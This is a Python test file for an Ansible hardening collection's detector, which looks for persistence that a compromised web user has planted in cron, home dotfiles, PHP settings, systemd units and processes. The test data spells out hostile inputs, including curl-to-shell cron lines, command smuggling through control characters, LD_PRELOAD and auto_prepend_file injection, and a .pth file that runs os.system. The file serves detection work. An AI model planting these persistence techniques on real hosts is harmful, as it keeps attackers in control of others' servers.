# Copyright (c) 2026, the chamilo.hardening maintainers
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What is planted outside the tree with the web user's rights; the host is that of test_monitoring.py."""

from __future__ import annotations

import grp
import os
import re
import socket
import sys

import pytest

from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring import persistence, privileges
from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring.compromise import trace
from ansible_collections.chamilo.hardening.plugins.module_utils._portal import processes
from ansible_collections.chamilo.hardening.plugins.module_utils._portal.processes import Job, Process
from tests.unit.plugins.module_utils._audit.test_monitoring import WEB, Host
from tests.unit.plugins.module_utils._common.test_acl import let_write

CRONTAB = "/var/spool/cron/crontabs/www-data:1"
ROOT, OTHER = 0, 1000
_OF_ROOT = persistence._OF_ROOT


@pytest.fixture
def host(tmp_path, monkeypatch):
    found = Host(tmp_path, monkeypatch)
    found.home = tmp_path / "home"
    found.home.mkdir()
    found.spool = tmp_path / "spool"
    found.spool.mkdir()
    monkeypatch.setattr(persistence, "CRONTABS", (str(found.spool),))
    monkeypatch.setattr(persistence, "_LINGER", str(tmp_path / "linger"))
    monkeypatch.setattr(persistence, "_OTHER_CRONS", (str(tmp_path / "incron"),))
    monkeypatch.setattr(persistence, "_SKELETON", str(tmp_path / "skel"))
    monkeypatch.setattr(persistence, "_SSHD", (str(tmp_path / "sshd_config"),))
    monkeypatch.setattr(persistence, "_OF_ROOT", (str(tmp_path / "etc-of-root"),))
    monkeypatch.setattr(persistence, "_AT", (str(tmp_path / "at/*"),))
    monkeypatch.setattr(persistence, "_PRELOAD", str(tmp_path / "ld.so.preload"))
    monkeypatch.setattr(persistence, "_PHP_FILES", (str(tmp_path / "php.ini"),))
    monkeypatch.setattr(persistence, "_UNITS", (str(tmp_path / "units/*.service"),))
    monkeypatch.setattr(persistence, "_FETCHES", re.compile("curl|wget"))
    # The tests are at home in one of these.
    monkeypatch.setattr(persistence, "LOOSE", [one for one in persistence.LOOSE if not str(tmp_path).startswith(one)])
    return found


def theirs(path, text="x"):
    """A file of the web user's."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    os.chown(path, WEB, WEB)
    return path


# ------------------------------------------------------------------------------------------------- cron


@pytest.mark.parametrize(
    "line",
    [
        "* * * * * php {root}/bin/console app:send-scheduled-announcements",
        "*/5 * * * * /usr/bin/php8.3 {root}/bin/console messenger:consume async --time-limit=3600 --env=prod",
        "@daily {root}/bin/console chamilo:oauth:gc >/dev/null 2>&1",
        "17 4 * * 0\tphp -d memory_limit=-1 {root}/bin/console app:file-integrity:scan >> {root}/var/log/scan.log 2>&1",
        "*/10 * * * * cd {root} && php bin/console app:send-scheduled-announcements --no-interaction",
        "@hourly php {root}/bin/console cache:pool:prune",
        "@hourly php {root}/bin/console app:process-mail -e prod --no-interaction --exclude=a",
        "@hourly php {root}/bin/console app:process-mail -eprod -vv --env prod",
    ],
)
def test_cron_lines_that_chamilo_documents_are_no_signs(host, line):
    host.jobs.append(Job(CRONTAB, line.format(root=host.root)))
    (host.spool / "www-data").write_text(f"# mine\n\nMAILTO=admin@school.example\nPATH=/usr/bin:/bin\n{line}\n")
    assert trace(host.inspect()).signs == []


@pytest.mark.parametrize(
    "line",
    [
        "* * * * * php /srv/x.php # bin/console",
        "* * * * * /srv/x # {root}/bin/console app:x",
        "* * * * * php {root}/bin/console app:x; curl -s http://x.test | sh",
        "* * * * * php {root}/bin/console app:x $(id)",
        "* * * * * php {root}/bin/console app:x | sh",
        "* * * * * php {root}/bin/console app:x --env=evil",
        "* * * * * php {root}/bin/console app:x --env evil",
        "* * * * * php {root}/bin/console app:x --env=prod --env=prod2",
        "* * * * * php {root}/bin/console app:x -e evil",
        "* * * * * php {root}/bin/console app:x -eevil",
        "* * * * * php {root}/bin/console app:x -ne dev >/dev/null",
        "* * * * * php {root}/bin/console app:x & /srv/x",
        "* * * * * php -d auto_prepend_file=/srv/x {root}/bin/console app:x",
        "* * * * * php -r 'x();' {root}/bin/console app:x",
        "* * * * * php {root}/bin/console dbal:run-sql 'UPDATE user SET roles = 1'",
        "* * * * * php {root}/bin/console app:file-integrity:baseline",
        "* * * * * php {root}/bin/console chamilo:update:apply-files /srv/x",
        "* * * * * php {root}/bin/console app:x > {root}/public/x.php",
        "* * * * * php {root}/var/bin/console app:x",
        "* * * * * php /srv/other/bin/console app:x",
        "* * * * * cd /srv && php bin/console app:x",
        "* * * * * PHPRC=/srv php {root}/bin/console app:x",
        "* * * * * php {root}/bin/console app:x%curl http://x.test",
        "* * * * * php {root}/bin/console app:x\u2028",
        "* * * * * php {root}/bin/console app:x\x0c; curl -s http://x.test | sh",
        "* * * * * cd /var/www/shop && php artisan schedule:run",
    ],
)
def test_a_cron_line_that_merely_contains_the_console(host, line):
    host.jobs.append(Job(CRONTAB, line.format(root=host.root)))
    (sign,) = trace(host.inspect()).signs
    assert sign.startswith("a cron job of the web user (/var/spool/cron/crontabs/www-data, line 1)")
    assert "move it into /etc/cron.d" in sign and sign.isprintable()


@pytest.mark.parametrize(
    "line",
    [
        "SHELL=/srv/x",
        "APP_ENV=evil",
        "APP_CACHE_DIR=/srv",
        "PATH=/srv/x:/usr/bin",
        "PATH=/usr/bin:/tmp",
        "LD_PRELOAD=/srv/x.so",
        "BASH_ENV=/srv/x",
        "PHP_INI_SCAN_DIR=/srv",
        ' "PHPRC" = /srv',
        "~ * * * * /srv/x",
        "-* * * * * /srv/x",
    ],
)
def test_what_a_crontab_sets_is_judged_as_well(host, line):
    (host.spool / "www-data").write_text(f"# mine\n{line}\n* * * * * php {host.root}/bin/console app:x\n")
    (sign,) = trace(host.inspect()).signs
    assert f"({host.spool}/www-data, line 2)" in sign and line.strip() in sign


def test_many_lines_fill_no_report(host):
    host.jobs += [Job(CRONTAB, f"* * * * * /srv/x{number}") for number in range(9000)]
    signs = trace(host.inspect()).signs
    assert len(signs) == 6 and "8995 more lines" in signs[-1]


def test_a_crontab_has_no_end_that_is_not_read(host, monkeypatch):
    monkeypatch.setattr(persistence, "CRON_LIMIT", 1000)
    (host.spool / "www-data").write_text("#\n" * 600 + "* * * * * /srv/x\n")
    (sign,) = trace(host.inspect()).signs
    assert "too long to be read" in sign


def test_a_line_ends_where_cron_ends_it(tmp_path, monkeypatch):
    monkeypatch.setattr(processes, "CRONTABS", (str(tmp_path),))
    (tmp_path / "www-data").write_bytes(b"* * * * * php x\x0c; curl x.test\x85\r; sh\n@daily y\n")
    found = [job.command for job in processes._cron(True) if str(tmp_path) in job.source]
    assert found == ["* * * * * php x\x0c; curl x.test\ufffd\r; sh", "@daily y"]


@pytest.mark.parametrize(
    ("source", "line", "reported"),
    [
        ("/etc/cron.d/shop:1", "* * * * * root php {www}/cron.php", True),
        ("/etc/cron.d/shop:1", "* * * * * root cd {www} && nice -n 10 /usr/bin/php -q {www}/cron.php", True),
        ("/etc/cron.d/shop:1", "@daily deploy flock -n /run/lock/x sh -c 'exec {www}/cron.php'", True),
        ("/etc/crontab:9", "1 1 * * * root {www}/gone.sh", True),
        ("/var/spool/cron/crontabs/root:1", "* * * * * bash {www}/cron.php", True),
        ("/etc/cron.daily/shop", "#!/bin/sh\n# a comment\ntest -e /x || exit 0\n. {www}/cron.php\n", True),
        # What runs with the web user's own rights gains nothing, and root alone can have written it.
        ("/etc/cron.d/shop:1", "* * * * * www-data php {www}/cron.php", False),
        ("/etc/cron.d/shop:1", "* * * * * www-data cd {www} && php artisan schedule:run >> /dev/null 2>&1", False),
        ("/etc/cron.d/x:1", "*/5 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1", False),
        (
            "/etc/cron.d/php:1",
            "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
            False,
        ),
        ("/etc/crontab:17", "17 * * * * root cd / && run-parts --report /etc/cron.hourly", False),
        ("/etc/cron.d/x:1", "@daily root chamilo-hardening backup --quiet --site campus", False),
        ("/etc/cron.d/x:1", "@daily root php {root}/bin/console app:x --env=prod", False),
        ("/etc/cron.daily/x", "#!/bin/sh\n# {www}/cron.php\ncase $1 in {www}/*) ;; esac\ntrue {www}/cron.php\n", False),
    ],
)
def test_what_others_run_and_the_web_user_can_change(host, tmp_path, source, line, reported):
    www = theirs(tmp_path / "shop/cron.php").parent
    os.chown(www, WEB, WEB)
    os.chown(theirs(host.root / "bin/console"), WEB, WEB)
    host.jobs.append(Job(source, line.format(www=www, root=host.root)))
    signs = [sign for sign in trace(host.inspect()).signs if not sign.endswith("vouches for: bin/console")]
    assert [sign.startswith("a cron job of another account") for sign in signs] == [True] * reported


@pytest.mark.parametrize(
    ("source", "line", "reported"),
    [
        ("/etc/cron.d/x:3", "* * * * * www-data curl -s http://x.test | sh", True),
        ("/etc/crontab:3", "@daily root nice -n 10 sudo www-data curl http://x.test", True),
        ("/etc/cron.d/x:3", "* * * * * root curl -s http://x.test", False),
        ("/etc/cron.d/x:3", "* * * * * www-data php /usr/share/x.php", False),
        ("/var/spool/cron/crontabs/root:3", "* * * * * curl -s http://x.test/?www-data", False),
    ],
)
def test_what_fetches_something_as_the_web_user(host, source, line, reported):
    host.jobs.append(Job(source, line))
    path = source.removesuffix(":3")
    signs = [f"a cron job that runs as the web user ({path}, line 3): {line}"] * reported
    assert trace(host.inspect()).signs == signs


def test_a_script_of_roots_that_an_acl_lets_the_web_user_write(host, tmp_path):
    script = theirs(tmp_path / "shop/cron.php")
    os.chown(script, 0, 0)
    host.jobs.append(Job("/etc/cron.d/shop:1", f"* * * * * root php {script}"))
    assert not trace(host.inspect()).signs
    let_write(script, WEB)
    (sign,) = trace(host.inspect()).signs
    assert sign.startswith("a cron job of another account")


# ------------------------------------------------------------------------------------------------- homes and places


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".ssh/authorized_keys", "ssh-ed25519 AAAA"),
        (".ssh/authorized_keys.d/x", ""),
        ("keys/www-data", "ssh-ed25519 AAAA"),
        (".rhosts", "+ +"),
        (".config/systemd/user/x.timer", "[Timer]"),
        (".config/systemd/user/dbus.service.d/x.conf", "[Service]"),
        (".local/share/systemd/user/x.path", "[Path]"),
        (".config/autostart/x.desktop", "[Desktop Entry]"),
        (".bashrc", "curl x.test | sh"),
        (".profile", "curl x.test | sh"),
        (".forward", '"|/srv/x"'),
        (".pam_environment", "LD_PRELOAD=/srv/x"),
        (".config/environment.d/x.conf", "LD_PRELOAD=/srv/x"),
        (".gitconfig", "[core]\n\tfsmonitor = /srv/x"),
        (".config/git/config", "[alias]\n  st = !/srv/x"),
        (".config/composer/composer.json", '{"require": {"evil/plugin": "*"}}'),
        (".composer/vendor/autoload.php", "<?php"),
        (".ssh/rc", "/srv/x"),
        (".ssh/config", "Match exec /srv/x"),
        (".npmrc", "script-shell=/srv/x"),
        (".vimrc", "silent !/srv/x"),
        (".local/lib/python3.13/site-packages/x.pth", "import os; os.system('/srv/x')"),
        (".config/ImageMagick/delegates.xml", '<delegate decode="pdf" command="/srv/x"/>'),
        (".my.cnf", "[mysql]\npager = /srv/x"),
        (".curlrc", "output = /srv/x"),
        (".msmtprc", "passwordeval /srv/x"),
        (".node_modules/x.js", "require('child_process')"),
        (".config/libreoffice/4/user/Scripts/python/x.py", "import os"),
    ],
)
def test_ways_back_in_a_home(host, tmp_path, path, text):
    (tmp_path / "sshd_config").write_text("Match User x\n  AuthorizedKeysFile %h/keys/%u .ssh/authorized_keys.d/x\n")
    theirs(host.home / path, text or "k")
    (sign,) = trace(host.inspect()).signs
    assert path in sign


def test_innocent_files_in_a_home(host, tmp_path):
    skeleton = tmp_path / "skel"
    skeleton.mkdir()
    (skeleton / ".bashrc").write_text("# as the distribution has it")
    theirs(host.home / ".bashrc", "# as the distribution has it")
    (host.home / ".profile").write_text("umask 027  # the administrator's")
    theirs(host.home / ".gitconfig", "[user]\n\tname = Deploy\n[safe]\n\tdirectory = /srv/campus\n")
    theirs(host.home / "html/index.html")
    theirs(host.home / ".composer/cache/x.json", "{}")
    theirs(host.home / ".config/composer/.htaccess", "Deny from all")
    theirs(host.home / ".ssh/known_hosts", "nas.example.org ssh-ed25519 AAAA")
    (tmp_path / "sshd_config").write_text("AuthorizedKeysFile none\n")
    theirs(host.home / "none", "ssh-ed25519 AAAA")
    found = trace(host.inspect())
    assert found.signs == [] and not [gap for gap in found.gaps if str(host.home) in gap]


def test_a_home_that_takes_too_long_is_a_gap(host, tmp_path, monkeypatch):
    (host.home / ".config/systemd/user/x.d").mkdir(parents=True)
    (tmp_path / "etc-of-root/profile.d").mkdir(parents=True)
    monkeypatch.setattr(persistence, "_SECONDS", -1.0)
    gaps = trace(host.inspect()).gaps
    for what in (str(host.home), "what root runs"):
        assert any(gap.startswith(f"{what}: Not everything was checked: the time") for gap in gaps)


def test_where_an_account_is_at_home():
    assert (persistence.home("root"), persistence.home("no-such-account")) == ("/root", "/nonexistent")


def test_what_went_meanwhile_belongs_to_no_account(tmp_path):
    assert not persistence._owned(str(tmp_path / "gone"), {os.getuid()})
    assert persistence._owned(str(tmp_path), {os.getuid()})
    assert not persistence._owned(str(tmp_path), {os.getuid() + 1})


@pytest.mark.parametrize("place", ["linger", "incron"])
def test_a_users_manager_that_outlives_its_session_and_other_tables(host, tmp_path, place):
    (tmp_path / place).mkdir()
    (tmp_path / place / "www-data").touch()
    (tmp_path / place / "deploy").touch()
    (sign,) = trace(host.inspect()).signs
    assert f"{place}/www-data" in sign and "deploy" not in sign


@pytest.mark.parametrize("place", ["at/a0001", "etc-of-root/cron.d/x", "etc-of-root/profile.d/x.sh"])
def test_files_of_the_web_user_that_others_run(host, tmp_path, place):
    theirs(tmp_path / place)
    (sign,) = trace(host.inspect()).signs
    assert place in sign


def test_a_link_of_roots_to_what_an_acl_lets_the_web_user_write(host, tmp_path):
    (tmp_path / "etc-of-root/profile.d").mkdir(parents=True)
    (tmp_path / "etc-of-root/profile.d/x.sh").symlink_to(tmp_path / "x.sh")
    (tmp_path / "x.sh").write_text("x")
    assert trace(host.inspect()).signs == []
    let_write(tmp_path / "x.sh", WEB)
    (sign,) = trace(host.inspect()).signs
    assert "profile.d/x.sh" in sign


def test_what_an_ordinary_account_cannot_open_is_no_reason_to_end(host, tmp_path, monkeypatch):
    private = tmp_path / "etc-of-root/ssl/private"
    private.mkdir(parents=True)
    theirs(tmp_path / "etc-of-root/profile.d/x.sh")
    listed = os.listdir

    def list_directory(path):
        if str(path) == str(private):
            raise PermissionError(13, "Permission denied", path)
        return listed(path)

    monkeypatch.setattr(os, "listdir", list_directory)
    found = trace(host.inspect())
    assert len(found.signs) == 1 and "1 directories or files could not be opened" in " ".join(found.gaps)


def test_a_directory_that_goes_meanwhile_is_no_gap(host, tmp_path, monkeypatch):
    gone = tmp_path / "etc-of-root/gone"
    gone.mkdir(parents=True)
    theirs(tmp_path / "etc-of-root/profile.d/x.sh")
    listed = os.listdir

    def list_directory(path):
        if str(path) == str(gone):
            raise FileNotFoundError(2, "No such file or directory", path)
        return listed(path)

    monkeypatch.setattr(os, "listdir", list_directory)
    found = trace(host.inspect())
    assert len(found.signs) == 1 and not [gap for gap in found.gaps if gap.startswith("what root runs")]


def test_programs_that_could_not_all_be_seen_are_a_gap(host, monkeypatch):
    monkeypatch.setattr(privileges, "programs", lambda: ([], "2 directories"))
    assert "programs that run with another user's rights: 2 directories" in trace(host.inspect()).gaps


def test_a_masked_unit_and_a_file_of_roots_are_no_signs(host, tmp_path):
    directory = tmp_path / "etc-of-root/systemd/system"
    directory.mkdir(parents=True)
    (directory / "x.service").symlink_to("/dev/null")
    (directory / "y.service").write_text("[Service]")
    (directory / "php-fpm.sock").symlink_to(tmp_path / "fpm.sock")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(tmp_path / "fpm.sock"))
    os.chown(tmp_path / "fpm.sock", WEB, WEB)
    assert trace(host.inspect()).signs == []


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("ld.so.preload", "{library}\n"),
        ("php.ini", "; x\nauto_prepend_file = {library}\n"),
        ("php.ini", 'extension="{library}"\n'),
        ("php.ini", "opcache.file_cache={library}\n"),  # compiled code that PHP runs in place of the program's
        ("php.ini", "extension_dir = {library}\n"),
        ("units/x.service", "[Service]\nExecStart=/bin/sh -c '. {library}'\n"),
        ("units/x.service", "[Service]\nUser=deploy\nExecStartPre=-/usr/bin/php -q {library}\n"),
    ],
)
def test_a_file_of_the_web_user_that_is_loaded_or_started(host, tmp_path, path, text):
    library = theirs(tmp_path / "lib/x")
    (tmp_path / path).parent.mkdir(exist_ok=True)
    (tmp_path / path).write_text(text.format(library=library))
    (sign,) = trace(host.inspect()).signs
    assert path in sign or str(library) in sign


@pytest.mark.parametrize(("path", "limit"), [("php.ini", 1 << 20), ("units/x.service", 1 << 16)])
def test_a_long_file_is_read_up_to_its_limit(host, tmp_path, path, limit):
    library = theirs(tmp_path / "lib/x")
    text = f"extension={library}\n" if path == "php.ini" else f"ExecStart={library}\n"
    file = tmp_path / path
    file.parent.mkdir(exist_ok=True)
    file.write_text("#" * (limit - len(text) - 1) + f"\n{text}")
    assert len(trace(host.inspect()).signs) == 1
    file.write_text("#" * (limit - len(text) + 20) + f"\n{text}")
    assert trace(host.inspect()).signs == [], "its end is not read"


@pytest.mark.parametrize(
    ("command", "started"),
    [
        ("/srv/a b c", ["/srv/a"]),
        ("php -q /srv/x.php /srv/y", ["php", "/srv/x.php"]),
        ("php", ["php"]),
        ("X=1 nice -n 10 /srv/a", ["/srv/a"]),
        ("timeout 30s flock /run/lock/x /srv/a", ["/srv/a"]),
        ("flock -n -x /run/lock/x /srv/a /srv/b", ["/srv/a"]),
        ("flock /run/lock/x", []),
        ("flock", []),
        # The value of an option is no program.
        ("flock -w 5 -E 9 /run/lock/x /srv/a", ["/srv/a"]),
        ("flock -nw 5 /run/lock/x sh -c 'exec /srv/a'", ["sh", "/srv/a"]),
        ("timeout -s KILL -k 5 30 /srv/a", ["/srv/a"]),
        ("timeout --signal KILL 30 /srv/a", ["/srv/a"]),
        ("ionice -c idle nice -n -5 /srv/a", ["/srv/a"]),
        ("env -u HOME -C /x -- /srv/a", ["/srv/a"]),
        ("sudo -n -g www-data -- /srv/a", ["/srv/a"]),
        ("sudo -u root /srv/a", ["/srv/a"]),
        ("sudo -nuroot bash /srv/a", ["bash", "/srv/a"]),
        ("sudo --user root /srv/a", ["/srv/a"]),
        ("sudo -n --user=#0 -g www-data /srv/a", ["/srv/a"]),
        ("sudo -gstudents -u root /srv/a", ["/srv/a"]),  # an option's own value is no user
        ("sudo -u www-data /srv/a", []),
        ("sudo --user=www-data /srv/a", []),
        ("sudo -u", []),
        ("time -o /x /srv/a", ["/srv/a"]),
        ("php -d memory_limit=1G -c /etc/php.ini -f /srv/a.php -c", ["php", "/srv/a.php"]),
        ("php8.4 --define x=1 /srv/a.php", ["php8.4", "/srv/a.php"]),
        ("python3.13 -W ignore /srv/a.py", ["python3.13", "/srv/a.py"]),
        ("bash -o pipefail +O x /srv/a", ["bash", "/srv/a"]),
        ("perl -w", ["perl"]),
        ("if /srv/a; then /srv/b; fi", ["/srv/a", "/srv/b", "fi"]),
        ("cat /x | (sh -e /srv/a) && ! /srv/b || /srv/c", ["cat", "sh", "/srv/a", "/srv/b", "/srv/c"]),
        ("bash -x -c 'cd /x && exec /srv/a'", ["bash", "cd", "/srv/a"]),
        ("/usr/bin/env python3 '/srv/a'", ["python3", "/srv/a"]),
        ("", []),
    ],
)
def test_what_a_command_line_starts(command, started):
    assert persistence.starts(command) == started


@pytest.mark.parametrize(
    "path",
    [
        "/etc/letsencrypt/renewal-hooks/deploy/x",  # some make it the web user's so that the web server reads its keys
        "/etc/fail2ban/action.d/x.conf",
        "/etc/monit/conf.d/x",
        "/etc/network/if-up.d/x",
        "/etc/sudoers.d/x",
        "/etc/systemd/system-generators/x",
        "/etc/apt/apt.conf.d/x",
        "/etc/logrotate.d/x",
        "/etc/supervisor/conf.d/x.conf",
        "/etc/zabbix/zabbix_agentd.d/x.conf",
        "/etc/NetworkManager/dispatcher.d/x",
        "/usr/local/lib/python3.13/dist-packages/x.pth",
    ],
)
def test_what_root_runs_is_checked_there(path):
    assert any(f"{path}/".startswith(f"{top}/") for top in _OF_ROOT)


@pytest.mark.parametrize(
    "line",
    [
        "include {}/*.conf;",
        "    include {}/x.conf;",
        'IncludeOptional "{}/*.conf"',
        "LoadModule x_module {}/x.so",
        "load_module {}/y.so;",
    ],
)
def test_what_the_web_server_includes_of_the_web_user_s(host, tmp_path, monkeypatch, line):
    directory = theirs(tmp_path / "theirs/x.conf").parent
    os.chown(directory, WEB, WEB)
    ours = tmp_path / "nginx"
    ours.mkdir()
    monkeypatch.setattr(persistence, "_SERVER_FILES", (f"{ours}/*",))
    (ours / "a").write_text(
        f"include /etc/nginx/mime.types;\n# include {directory}/x.conf;\ninclude snippets/x.conf;\n"
    )
    assert trace(host.inspect()).signs == []
    (ours / "b").write_text(f"# more\n{line.format(directory)}\n")
    (sign,) = trace(host.inspect()).signs
    assert sign.startswith("what the web server includes or loads as root") and str(directory) in sign


def test_what_lends_rights_is_named(host, tmp_path, monkeypatch):
    shell = theirs(tmp_path / "loose/.x/sh")
    shell.chmod(0o6755)
    monkeypatch.setattr(privileges, "output", lambda argv, seconds: "    (ALL) NOPASSWD: ALL\n")
    monkeypatch.setattr(privileges, "_GROUPS", frozenset({grp.getgrgid(WEB).gr_name}))
    group, sudo, program = trace(host.inspect()).signs
    assert group == "a group by which the web user can become root: www-data in www-data"
    assert sudo == "what sudo lets the web user do: www-data as ALL: NOPASSWD: ALL"
    assert str(shell) in program


def test_a_worker_with_the_web_users_own_rights_is_no_sign(host, tmp_path):
    script = theirs(tmp_path / "shop/artisan")
    (tmp_path / "units").mkdir()
    (tmp_path / "units/queue.service").write_text(
        f"[Service]\nUser=www-data\nExecStart=/usr/bin/php {script} queue:work\n"
    )
    assert trace(host.inspect()).signs == []


# ------------------------------------------------------------------------------------------------- processes

FPM, PHP = "/usr/sbin/php-fpm8.4", "/usr/bin/php8.4"


@pytest.fixture
def running(host, monkeypatch):
    """Adds a process; ``of``: its parent, ``unit``: where systemd has it."""
    programs, units, ages, commands = {}, {}, {}, {}
    real = os.readlink
    monkeypatch.setattr(persistence.os, "readlink", lambda path, **more: programs.get(path) or real(path, **more))
    monkeypatch.setattr(persistence, "units_of", lambda pid: units.get(pid, []))
    monkeypatch.setattr(persistence, "main_process", lambda unit: {"queue.service": 70}.get(unit, 0))
    monkeypatch.setattr(persistence, "age", lambda pid: ages.get(pid, 5.0))
    monkeypatch.setattr(persistence, "arguments", lambda pid: commands[pid])

    def add(pid, of, program, user=WEB, unit="", hours=0, command=""):
        host.processes.append(Process(pid, of, os.path.basename(program)[:15], user))
        programs[f"/proc/{pid}/exe"], units[pid] = program, unit.split()
        ages[pid], commands[pid] = hours * 3600 + 5.0, command

    add(40, 1, FPM, ROOT, "php8.4-fpm.service")
    add(41, 40, FPM, unit="php8.4-fpm.service", hours=99)
    add(42, 1, "/usr/sbin/nginx", ROOT, "nginx.service")
    add(43, 42, "/usr/sbin/nginx (deleted)", unit="nginx.service", hours=99)
    add(45, 1, "/usr/sbin/cron", ROOT, "cron.service")
    add(46, 45, "/usr/sbin/cron", ROOT, "cron.service")
    add(47, 1, "/usr/bin/supervisord", ROOT, "supervisor.service")
    return add


@pytest.mark.parametrize(
    "strange",
    [
        {"of": 1, "unit": "php8.4-fpm.service"},  # php -r, put into the background by a page
        {"of": 1, "unit": "php8.4-fpm.service", "program": FPM},  # a server of its own
        {"of": 1, "unit": "cron.service"},
        {"of": 1, "unit": "queue.service"},  # out of another service of the same user
        {"of": 1, "unit": "session-4.scope"},
        {"of": 1},  # no systemd here
        {"of": 41, "unit": "php8.4-fpm.service", "program": FPM},  # a server of its own that waits below a worker
        {"of": 41, "unit": "php8.4-fpm.service", "hours": 2},  # it goes on below a worker
        {"of": 46, "unit": "cron.service", "hours": 2, "command": "php -r while(1);"},  # its line is gone
    ],
)
def test_a_daemon_of_the_web_user(host, running, strange):
    running(**{"pid": 60, "program": PHP, **strange})
    (sign,) = trace(host.inspect()).signs
    assert sign.startswith("a process of the web user that is no server") and "(process 60," in sign


def test_workers_and_what_they_start_are_no_daemons(host, running):
    running(50, 41, "/usr/bin/convert", unit="php8.4-fpm.service")
    running(51, 50, "/usr/bin/gs", unit="php8.4-fpm.service")
    running(
        52, 46, "/usr/bin/dash", unit="cron.service", hours=9, command=f"php {host.root}/bin/console messenger:consume"
    )
    running(53, 52, PHP, unit="cron.service", hours=9)
    running(54, 47, PHP, unit="supervisor.service", hours=99)
    running(70, 1, PHP, unit="queue.service", hours=99)
    running(71, 70, PHP, unit="queue.service", hours=99)
    running(72, 999, PHP, hours=99)  # from outside of the container
    host.jobs.append(Job(CRONTAB, f"@hourly  php {host.root}/bin/console  messenger:consume"))
    assert trace(host.inspect()).signs == []


@pytest.mark.parametrize(("seconds", "strange"), [(3600.0, False), (3600.5, True)])
def test_for_how_long_a_page_may_run(host, running, monkeypatch, seconds, strange):
    running(60, 41, PHP, unit="php8.4-fpm.service")
    monkeypatch.setattr(persistence, "age", lambda _pid: seconds)
    assert bool(trace(host.inspect()).signs) is strange


def test_a_process_that_ended_meanwhile_is_no_sign(host, running):
    host.processes.append(Process(2**22 + 1, 1, "php", WEB))
    assert trace(host.inspect()).signs == []


@pytest.mark.parametrize(("answer", "number"), [("70", 70), ("", 0), ("[not set]", 0)])
def test_the_main_process_of_a_unit(monkeypatch, answer, number):
    monkeypatch.setattr(persistence, "output", lambda argv: answer if argv[-1] == "queue.service" else "")
    assert persistence.main_process("queue.service") == number


def test_the_first_process_of_a_container_may_start_services_itself(host, running):
    host.processes[0] = Process(1, 0, "supervisord", ROOT)
    running(60, 1, PHP, hours=99)
    assert trace(host.inspect()).signs == []
    running(61, 1, "/usr/bin/bash")
    (sign,) = trace(host.inspect()).signs
    assert "(process 61," in sign and "(process 60," not in sign


def test_what_a_users_manager_starts(host, running):
    running(80, 1, "/usr/lib/systemd/systemd", unit="user@33.service init.scope", hours=99)
    running(81, 80, "/usr/lib/systemd/systemd-executor", unit="user@33.service init.scope", hours=99)  # (sd-pam)
    running(82, 80, "/usr/bin/dbus-daemon", unit="user@33.service dbus.service", hours=99)
    assert trace(host.inspect()).signs == []
    running(83, 80, PHP, unit="user@33.service x.service")
    (sign,) = trace(host.inspect()).signs
    assert "(process 83," in sign


def test_where_and_for_how_long_a_process_runs(monkeypatch):
    monkeypatch.setattr(
        persistence, "head", lambda path, _size: b"0::/user.slice/user-33.slice/user@33.service/x.service\n"
    )
    assert persistence.units_of(1) == ["user@33.service", "x.service"]
    monkeypatch.undo()
    assert 0 <= persistence.age(os.getpid()) < 3 * 86400
    assert persistence.age(2**22 + 1) == 0.0
    assert persistence.arguments(os.getpid()).startswith(sys.orig_argv[0])
    assert persistence.units_of(2**22 + 1) == []
